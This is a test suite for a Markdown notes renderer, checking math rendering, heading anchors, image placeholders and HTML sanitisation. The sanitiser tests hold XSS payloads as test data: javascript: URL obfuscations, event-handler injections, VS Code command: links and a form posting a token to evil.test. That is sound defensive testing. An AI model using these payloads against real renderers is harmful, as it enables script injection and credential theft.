import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { parseNote } from '../../src/core/notes/parse';
import type { NoteDocument } from '../../src/core/notes/types';
import { getRenderer, Renderer, type RenderHooks } from '../../src/core/render/renderer';
import { sanitizeHtml } from '../../src/core/render/sanitize';
import { bundledNotesDir, fixturesDir } from './helpers';

const renderer = new Renderer();

function note(file: string): NoteDocument {
  return parseNote(readFileSync(file, 'utf8'), file);
}

const bundled = () => note(path.join(bundledNotesDir, 'ml-basis-notes.md'));

/** Resolves images like the panel does: relative to the note's folder, null when the file is not there. */
function imagesIn(dir: string): RenderHooks['image'] {
  return (src) => (existsSync(path.join(dir, src)) ? `https://notes.test/${src}` : null);
}

/** Every start tag of the given name, as attribute maps. */
function tags(html: string, name: string): Map<string, string>[] {
  const out: Map<string, string>[] = [];
  for (const m of html.matchAll(new RegExp(`<${name}\\b([^>]*)>`, 'gi'))) {
    const attrs = new Map<string, string>();
    for (const a of m[1].matchAll(/([\w:-]+)(?:="([^"]*)")?/g)) attrs.set(a[1].toLowerCase(), a[2] ?? '');
    out.push(attrs);
  }
  return out;
}

describe('renderer: math', () => {
  test('inline $…$ and block $$…$$ render with KaTeX', () => {
    const html = renderer.renderMarkdown('Energy $E=mc^2$ here.\n\n$$\n\\sum_{i=1}^{n} x_i\n$$\n');
    assert.match(html, /<p[^>]*>Energy <span class="katex">/);
    assert.match(html, /class="katex-display"/);
    assert.match(html, /<annotation encoding="application\/x-tex">\\sum_\{i=1\}\^\{n\} x_i/);
    assert.doesNotMatch(html, /\$\$/);
  });

  test('an ml-notes-check block shows as code, its YAML as written (captures and all)', () => {
    const html = renderer.renderMarkdown('```ml-notes-check\nid: a\npattern: torch.load($$$ARGS)\nmessage: "x < y"\n```\n');
    assert.match(html, /<pre[^>]*><code[^>]*class="language-ml-notes-check">id: a\npattern: torch\.load\(\$\$\$ARGS\)\nmessage: &quot;x &lt; y&quot;\n<\/code><\/pre>/);
    assert.doesNotMatch(html, /katex/, 'the $ of captures is not math');
  });

  test('a ```math fence renders as a block', () => {
    assert.match(renderer.renderMarkdown('```math\n\\frac{a}{b}\n```\n'), /class="katex-display"/);
  });

  test('bad math shows its source in an error style, does not throw, and the rest still renders', () => {
    let html = '';
    assert.doesNotThrow(() => {
      html = renderer.renderMarkdown('Before $\\frac{1}{$ after **bold**.\n\n$$\n\\begin{matrix} a &\n$$\n\nLast paragraph.');
    });
    assert.match(html, /<span class="katex-error"[^>]*style="color:#cc0000"[^>]*>\\frac\{1\}\{<\/span>/);
    assert.match(html, /class="katex-error"[^>]*>\\begin\{matrix\} a &amp;/);
    assert.match(html, /after <strong>bold<\/strong>/);
    assert.match(html, /Last paragraph\./);
  });

  test('an unknown command is shown in the error colour', () => {
    assert.match(renderer.renderMarkdown('$\\notacommand{x}$'), /color:#cc0000;?"[^>]*>(?:<[^>]+>)*\\notacommand/);
  });

  test('\\href and \\url in math are not links', () => {
    const html = renderer.renderMarkdown('$\\href{javascript:alert(1)}{click}$ and $\\url{https://example.com}$');
    assert.equal(tags(html, 'a').length, 0);
    assert.doesNotMatch(html, /href=/);
  });

  test('math with runaway macros is stopped, not hung', () => {
    const html = renderer.renderMarkdown('$\\def\\a{\\a\\a}\\a$');
    assert.match(html, /katex-error|color:#cc0000/);
  });
});

describe('renderer: the bundled note', () => {
  const doc = bundled();
  const rendered = renderer.renderDocument(doc, { image: imagesIn(bundledNotesDir) });

  test('every heading carries its section slug as id and its source line', () => {
    const h2 = tags(rendered.html, 'h2');
    assert.deepEqual(
      h2.map((a) => [a.get('id'), a.get('data-line')]),
      doc.sections.map((s) => [s.slug, String(s.startLine)]),
    );
  });

  test('the table of contents lists the sections', () => {
    assert.deepEqual(
      rendered.headings.map((h) => [h.slug, h.title, h.level, h.line]),
      doc.sections.map((s) => [s.slug, s.title, s.level, s.startLine]),
    );
  });

  test('every point is an element with its id', () => {
    const ids = tags(rendered.html, 'li').filter((a) => a.has('id')).map((a) => a.get('id'));
    assert.deepEqual(ids, doc.sections.flatMap((s) => s.points.map((p) => p.id)));
    assert.ok(ids.includes('一些琐碎但是非常重要的点/2'));
    for (const li of tags(rendered.html, 'li').filter((a) => a.has('id'))) assert.equal(li.get('class'), 'note-point');
  });

  test('the raw <img width="70%" src=…> of the note survives, with its width and resolved src', () => {
    const fpn = tags(rendered.html, 'img').find((a) => a.get('src')?.endsWith('figures/fpn.svg'));
    assert.ok(fpn, 'the FPN figure is an <img>');
    assert.equal(fpn.get('src'), 'https://notes.test/figures/fpn.svg');
    assert.equal(fpn.get('width'), '70%');
    assert.match(fpn.get('alt') ?? '', /FPN/);
  });

  test('<hr> separators render as rules; the front matter is not rendered', () => {
    assert.ok((rendered.html.match(/<hr>/g) ?? []).length >= 8);
    assert.doesNotMatch(rendered.html, /title: Long term|terms:/);
  });

  test('external links open safely', () => {
    const a = tags(rendered.html, 'a').find((x) => x.get('href')?.startsWith('https://kevinzakka.github.io/'));
    assert.equal(a?.get('rel'), 'noopener noreferrer');
  });

  test('every fixture note: each heading the panel shows carries the slug of its section', () => {
    const dir = path.join(fixturesDir, 'notes');
    for (const name of ['blocks.md', 'structure.md', 'lists.md', 'crlf-bom.md', 'user-notes.md', 'unterminated-front-matter.md']) {
      const d = note(path.join(dir, name));
      const html = renderer.renderDocument(d).html;
      const shown = [...html.matchAll(/<h([1-6])\b([^>]*)>/g)].map((m) => /\bid="([^"]*)"/.exec(m[2])?.[1]);
      assert.deepEqual(shown, d.sections.filter((s) => s.level > 0).map((s) => s.slug), name);
    }
  });

  test('the implicit section of a note without headings is an anchor at the top', () => {
    const d = note(path.join(fixturesDir, 'notes', 'no-headings.md'));
    assert.match(renderer.renderDocument(d).html, /^<a id="no-headings" class="section-anchor"><\/a>/);
  });

  test('a heading inside a quote does not take the id of the heading after it', () => {
    const d = parseNote('# Top\n\n> # Quoted\n## Real\n', 'q.md');
    const html = renderer.renderDocument(d).html;
    assert.match(html, /<h1 data-line="2">Quoted<\/h1>/);
    assert.match(html, /<h2 data-line="3" id="real">Real<\/h2>/);
    assert.equal((html.match(/id="real"/g) ?? []).length, 1);
  });
});

describe('renderer: images', () => {
  const dir = path.join(fixturesDir, 'notes');
  const image = imagesIn(path.join(bundledNotesDir));

  test('a missing Markdown image becomes a placeholder with its alt text, never an <img>', () => {
    const html = renderer.renderMarkdown('![Loss curve over epochs](figures/missing-loss.png)', { image });
    assert.equal(tags(html, 'img').length, 0);
    assert.match(html, /<span class="missing-image" role="img" aria-label="Loss curve over epochs" title="Image not found: figures\/missing-loss.png">Loss curve over epochs<\/span>/);
  });

  test('a missing raw <img> becomes the placeholder too; without alt text it shows the file name', () => {
    const d = note(path.join(dir, 'blocks.md'));
    const html = renderer.renderDocument(d, { image: imagesIn(dir) }).html;
    assert.equal(tags(html, 'img').length, 0);
    assert.match(html, /<span class="missing-image"[^>]*>none\.svg<\/span>/);
    const alt = renderer.renderMarkdown('<img src="gone.png" alt="The FPN figure">', { image });
    assert.match(alt, /<span class="missing-image"[^>]*aria-label="The FPN figure"[^>]*>The FPN figure<\/span>/);
  });

  test('an existing image is resolved through the hook', () => {
    const html = renderer.renderMarkdown('![BN](figures/bn-mean-var.svg)', { image });
    assert.deepEqual(tags(html, 'img').map((a) => [a.get('src'), a.get('alt')]), [['https://notes.test/figures/bn-mean-var.svg', 'BN']]);
  });

  test('the image and link hooks get the path as written, also with CJK and spaces', () => {
    const seen: string[] = [];
    renderer.renderMarkdown('![图](<图片/特征 图.png>) [另一篇](其他笔记.md#语义分割)', {
      image: (src) => (seen.push(src), 'x.png'),
      link: (href) => (seen.push(href), href),
    });
    assert.deepEqual(seen.sort(), ['其他笔记.md#语义分割', '图片/特征 图.png'].sort());
  });

  test('data: images other than raster images are refused', () => {
    const html = renderer.renderMarkdown('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">');
    assert.equal(tags(html, 'img').length, 0);
    assert.match(html, /missing-image/);
  });
});

describe('renderer: unsafe HTML is removed', () => {
  const hooks: RenderHooks = { image: () => 'https://notes.test/img.png' };
  const render = (md: string) => renderer.renderMarkdown(md, hooks);

  test('<script> blocks and inline scripts are gone with their content', () => {
    const html = render('<script>alert("block")</script>\n\nText <script>alert("inline")</script> after.\n\n<SCRIPT src="x.js"></SCRIPT>');
    assert.doesNotMatch(html, /script|alert/i);
    assert.match(html, /Text\s+after\./);
  });

  test('event handlers are dropped, the element stays', () => {
    const html = render('<img src="fig.png" onerror="alert(1)" width="40%"> <a href="https://x.test" onmouseover="alert(2)" onclick=alert(3)>x</a>');
    assert.doesNotMatch(html, /\bon[a-z]+=|alert/i);
    assert.equal(tags(html, 'img')[0]?.get('width'), '40%');
    assert.equal(tags(html, 'a')[0]?.get('href'), 'https://x.test');
  });

  test('javascript: links are not links, however they are written', () => {
    const html = render(
      [
        '[a](javascript:alert(1))',
        '[b](JaVaScRiPt:alert(1))',
        '<a href="javascript:alert(1)">c</a>',
        '<a href="java&#09;script:alert(1)">d</a>',
        '<a href="&#106;avascript:alert(1)">e</a>',
        '<a href=" javascript:alert(1)">f</a>',
        '<a href="vbscript:msgbox(1)">g</a>',
        '<a href="data:text/html,<script>alert(1)</script>">h</a>',
        '<javascript:alert(1)>',
        '[i][r]\n\n[r]: javascript:alert(1)',
      ].join('\n\n'),
    );
    assert.doesNotMatch(html, /href="[^"]*(?:script|data):/i);
    for (const a of tags(html, 'a')) assert.equal(a.get('href'), undefined);
  });

  test('command: links (VS Code commands) are not links', () => {
    const html = render('[quit](command:workbench.action.quit) <a href="command:workbench.action.files.delete">x</a> [c](<command:x?%5B%5D>) <command:workbench.action.quit>');
    assert.doesNotMatch(html, /href="command:/i);
  });

  test('iframes, objects and embeds are gone with their content', () => {
    const html = render('<iframe src="https://evil.test">fallback</iframe>\n\n<object data="x.swf"><embed src="x.swf"></object>');
    assert.doesNotMatch(html, /iframe|object|embed|evil|fallback/i);
  });

  test('forms and their controls are gone; the text is kept', () => {
    const html = render('<form action="https://evil.test/steal" method="post"><input name="token"><button>Send</button><textarea>secret</textarea></form>');
    assert.doesNotMatch(html, /<form|<input|<button|<textarea|action=|secret/i);
    assert.match(html, /Send/);
  });

  test('<style> elements and style attributes are gone', () => {
    const html = render('<style>body { display: none }</style>\n\n<p style="position:fixed;top:0">pinned</p>\n\n<span style="color:red">red</span>');
    assert.doesNotMatch(html, /<style|style=|display: none/i);
    assert.match(html, /<p>pinned<\/p>/);
    assert.match(html, /red/);
  });

  test('svg, math markup and comments written in the note are gone', () => {
    const html = render('<svg onload="alert(1)"><script>alert(2)</script></svg>\n\n<!-- hidden <script>alert(3)</script> -->\n\nok');
    assert.doesNotMatch(html, /svg|alert|hidden/i);
    assert.match(html, /ok/);
  });

  test('allowed markup keeps its safe attributes only', () => {
    const html = render('<details open><summary>More</summary>\n\nBody\n\n</details>\n\n<table><tr><td colspan="2" align="center" class="x">cell</td></tr></table>');
    assert.match(html, /<details open="">/);
    assert.match(html, /<td colspan="2" align="center">cell<\/td>/);
  });

  test('an <a> left open in one paragraph does not turn the rest of the note into a link', () => {
    const html = render('See <a href="https://x.test">the paper\n\nNext paragraph.');
    assert.match(html, /<a rel="noopener noreferrer" href="https:\/\/x.test">the paper<\/a><\/p>/);
    assert.match(html, /<p[^>]*>Next paragraph\.<\/p>/);
  });

  test('an unclosed allowed element in an HTML block is closed at the end', () => {
    const html = render('<details><summary>Open</summary>\n\ncontent');
    assert.equal((html.match(/<details>/g) ?? []).length, (html.match(/<\/details>/g) ?? []).length);
  });

  test('the sanitiser alone never throws on broken HTML', () => {
    for (const s of ['<', '<a', '<a href="x', '<img src=>', '</div></div>', '<<script>>', '<a href=javascript:alert(1)>x</a>']) {
      assert.doesNotThrow(() => sanitizeHtml(s), s);
      assert.doesNotMatch(sanitizeHtml(s), /javascript:|<script/i, s);
    }
  });
});

describe('renderer: sharing', () => {
  test('getRenderer returns one instance, and renders are independent of each other', () => {
    assert.equal(getRenderer(), getRenderer());
    const r = getRenderer();
    r.renderMarkdown('<script>never closed');
    assert.match(r.renderMarkdown('visible text'), /visible text/);
  });
});

test('nothing built from inside an inline dropped element survives (no empty link, no bold)', () => {
  const doc = parseNote("## Heading with <script>alert('h')</script> a script\n\nText <script>see [link](http://127.0.0.1:9/x) **bold** http://127.0.0.1:9/y</script> after.\n", 'x.md');
  assert.equal(doc.sections[0].title, 'Heading with a script');
  const html = new Renderer().renderDocument(doc).html;
  assert.doesNotMatch(html, /127\.0\.0\.1|<a |<strong>|alert/);
  assert.match(html, /Text\s+after\./);
});

describe('sanitiser: script URLs inside link and image paths', () => {
  test('an image path or link that spells a script URL anywhere is dropped, not kept as an odd relative path', () => {
    // Found by the HTML-soup property test: the quotes leave `javascript:` inside the value of the img's src.
    const img = sanitizeHtml(`<IMG src='></a><a href="javascript:alert(1)"><a href='>`);
    assert.doesNotMatch(img, /javascript/i);
    assert.match(img, /missing-image/);
    assert.equal(sanitizeHtml('<a href="docs/javascript:run.md">x</a>'), '<a>x</a>');
    assert.equal(sanitizeHtml('<a href="docs/run.md">x</a>'), '<a href="docs/run.md">x</a>');
  });
});
